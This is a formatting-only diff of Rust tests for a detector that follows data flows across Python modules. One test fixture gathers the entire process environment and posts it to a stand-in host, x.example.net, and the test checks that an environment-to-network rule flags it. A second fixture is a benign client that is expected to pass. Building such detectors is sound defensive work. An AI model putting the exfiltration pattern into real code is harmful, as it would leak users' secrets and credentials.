@@ -32,14 +32,15 @@ fn ways(files: &[(&str, &str)], rule: &str) -> Vec<Vec<String>> {
 fn data_that_one_module_gathers_and_another_sends_is_one_flow() {
     let gather = "import os\n\ndef gather():\n    return dict(os.environ)\n";
     let send = "import requests\n\ndef send(body, retries=3):\n    requests.post('https://x.example.net', json=body)\n";
-    let main = "from .gather import gather\nfrom .send import send\n\ndef main():\n    data = gather()\n    send(data)\n";
+    let main =
+        "from .gather import gather\nfrom .send import send\n\ndef main():\n    data = gather()\n    send(data)\n";
     let files = [("p/__init__.py", ""), ("p/gather.py", gather), ("p/send.py", send), ("p/main.py", main)];
     assert_eq!(
         ways(&files, "AL-FLOW-environment-to-network"),
         [[
             "p/gather.py:4 os.environ gives the environment",
             "p/main.py:5 p.gather.gather() hands it over",
-            "p/main.py:5 kept in \"data\"",
+            "p/main.py:5 kept in 'data'",
             "p/main.py:6 handed to another file",
             "p/send.py:4 requests.post sends it away",
         ]]
@@ -79,11 +80,13 @@ fn classes_constants_and_names_of_the_package_lead_on() {
 
 #[test]
 fn modules_without_an_end_of_the_flow_raise_no_alarm() {
-    let config = "import os\n\nKEY = os.environ['SHOP_API_KEY']\n\ndef url(path):\n    return os.environ['SHOP_URL'] + path\n";
+    let config =
+        "import os\n\nKEY = os.environ['SHOP_API_KEY']\n\ndef url(path):\n    return os.environ['SHOP_URL'] + path\n";
     let client = "import requests\nfrom .config import KEY, url\n\ndef get(path, **more):\n    \
                   return requests.get(url(path), headers={'Authorization': KEY}, params=more).json()\n";
     let main = "from .client import get\n\ndef orders(customer):\n    return get('/orders', customer=customer)\n";
-    let found = findings(&[("p/__init__.py", ""), ("p/config.py", config), ("p/client.py", client), ("p/main.py", main)]);
+    let found =
+        findings(&[("p/__init__.py", ""), ("p/config.py", config), ("p/client.py", client), ("p/main.py", main)]);
     let flows: Vec<&Finding> = found.iter().filter(|finding| finding.rule.starts_with("AL-FLOW-")).collect();
     assert!(flows.is_empty(), "{flows:#?}");
 }
